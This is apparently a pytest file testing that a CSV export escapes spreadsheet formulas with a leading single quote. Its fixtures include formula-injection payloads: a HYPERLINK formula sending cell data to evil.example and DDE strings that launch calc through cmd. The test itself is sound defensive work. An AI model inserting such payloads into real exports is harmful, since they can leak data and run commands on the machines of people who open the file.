"""scorecard/export.py: every cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
from datetime import date

import polars as pl

from scorecard.export import csv_bytes, neutralised, safe_cell


def test_each_formula_start_gets_a_single_quote() -> None:
    # the OWASP rule: =, +, -, @, tab and carriage return; the known bypasses all begin with one of them
    for cell in ('=0+HYPERLINK("http://evil.example/?x="&A1,"Click")', "=+SUM(1,2)", '-0+cmd|"/c calc"!A1',
                 "+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "-"):
        assert safe_cell(cell) == "'" + cell
    for cell in ("Farid Ueda", "a=b", " =1+1", "'quoted", "", None):
        assert safe_cell(cell) == cell


def test_text_columns_are_neutralised_and_numbers_kept() -> None:
    frame = pl.DataFrame({
        "rep_name": ["=HYPERLINK(\"http://evil.example\")", "Ann", None],
        "next_step": ["-0+cmd|' /C calc'!A0", "@call", "send proposal"],
        "amount": [-1_000.0, 2.5, None],
        "close_date": [date(2026, 1, 2), None, date(2026, 3, 4)],
        "flags": [["=bad", "stalled"], [], None],
    })
    out = neutralised(frame)
    assert out["rep_name"].to_list() == ["'=HYPERLINK(\"http://evil.example\")", "Ann", None]
    assert out["next_step"].to_list() == ["'-0+cmd|' /C calc'!A0", "'@call", "send proposal"]
    assert out["amount"].to_list() == [-1_000.0, 2.5, None]  # a negative number is a number, not a formula
    assert out["close_date"].dtype == pl.Date
    assert out["flags"].to_list() == ["'=bad, stalled", "", None]


def test_the_csv_opens_with_the_quoted_cells() -> None:
    frame = pl.DataFrame({"rep_name": ["=1+1", "Zoë"], "won": [-5, 7]})
    data = csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads the accents right
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["rep_name", "won"], ["'=1+1", "-5"], ["Zoë", "7"]]
